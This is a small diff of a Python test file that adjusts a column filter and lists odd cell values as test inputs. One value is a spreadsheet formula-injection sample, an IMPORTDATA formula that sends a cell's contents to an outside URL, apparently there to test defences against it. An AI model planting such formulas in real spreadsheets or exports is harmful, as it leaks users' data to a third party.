@@ -23,7 +23,7 @@ from tests.town import NOTE, WORDS
 
 pytestmark = pytest.mark.sampled(3, tests=2)
 
-TYPED = [column for column in PEOPLE if column is not intake.KELURAHAN]
+TYPED = [column for column in PEOPLE if column.in_new_tabs]
 ODD: dict[str, Value] = {
     "formula": '=IMPORTDATA("https://example.org/?"&A1)',
     "plus": "+62 812-0000-1021",
